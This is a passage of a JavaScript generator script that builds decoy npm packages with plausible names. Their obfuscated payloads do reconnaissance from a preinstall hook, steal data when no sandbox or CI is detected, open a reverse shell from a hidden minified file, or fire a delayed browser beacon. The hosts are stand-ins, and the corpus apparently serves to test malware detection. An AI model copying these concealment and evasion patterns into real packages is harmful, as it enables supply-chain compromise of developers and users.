    put(`${id}/package/package.json`, pkg({ name: 'gatsby-plugin-corp-analytics', version: '88.2.1', main: 'index.js', scripts: { preinstall: 'node index.js' }, license: 'ISC' }));
    put(`${id}/package/index.js`, ob(P.recon('k3m8q1.burpcollab.invalid'), { compact: true, stringArray: true, rotateStringArray: true, stringArrayThreshold: 1, identifierNamesGenerator: 'hexadecimal' }));
  }
  {
    const id = 'obfuscator-io-2';
    put(`${id}/package/package.json`, pkg({ name: 'eslint-plugin-corp-rules', version: '1.0.0-rc.1', main: 'index.js', license: 'MIT' }));
    const src = `const sandbox=['/.dockerenv','/dev/kvm'].some(f=>{try{return require('fs').existsSync(f)}catch(e){return false}});
if(!sandbox&&!process.env.CI){${P.steal('cf.corp-rules.invalid')}}
module.exports={rules:{}};`;
    put(`${id}/package/index.js`, ob(src, { compact: true, controlFlowFlattening: true, controlFlowFlatteningThreshold: 1, deadCodeInjection: true, deadCodeInjectionThreshold: 0.4, stringArray: true, stringArrayEncoding: ['base64'], stringArrayThreshold: 1, splitStrings: true, splitStringsChunkLength: 5 }));
  }
  {
    const id = 'obfuscator-io-3';
    put(`${id}/package/package.json`, pkg({ name: 'lodash-deep-utils', version: '4.17.22', main: 'index.js', license: 'MIT' }));
    put(`${id}/package/index.js`, `'use strict';
const get = (o, p, d) => p.split('.').reduce((a, k) => (a == null ? a : a[k]), o) ?? d;
const set = (o, p, v) => { const ks = p.split('.'); ks.slice(0, -1).reduce((a, k) => (a[k] ??= {}), o)[ks.at(-1)] = v; return o; };
require('./lib/utils.min.js');
module.exports = { get, set };
`);
    put(`${id}/package/lib/utils.min.js`, ob(P.shell('192.0.2.177', 443), { compact: true, stringArray: true, stringArrayEncoding: ['rc4'], stringArrayThreshold: 1, selfDefending: true, transformObjectKeys: true, numbersToExpressions: true, stringArrayWrappersCount: 2, stringArrayWrappersType: 'function' }));
  }
  {
    const id = 'obfuscator-io-4';
    put(`${id}/package/package.json`, pkg({ name: 'bootstrap-datepicker-plus', version: '2.4.2', main: 'dist/datepicker.js', license: 'MIT' }));
    put(`${id}/package/dist/datepicker.js`, ob(`function Datepicker(el){this.el=el;this.value=null}Datepicker.prototype.set=function(v){this.value=v;this.el.value=v};
if(typeof window!=='undefined'&&!/^(localhost|127\\.)/.test(location.hostname)){setTimeout(function(){${P.browser('obf.datepicker-plus.invalid')}},5000)}
if(typeof module!=='undefined')module.exports=Datepicker;`, { compact: true, identifierNamesGenerator: 'mangled', target: 'browser', stringArray: true, stringArrayEncoding: ['base64'], stringArrayThreshold: 1, unicodeEscapeSequence: true }));
  }
}
console.log('concealment replicas written to', OUT);
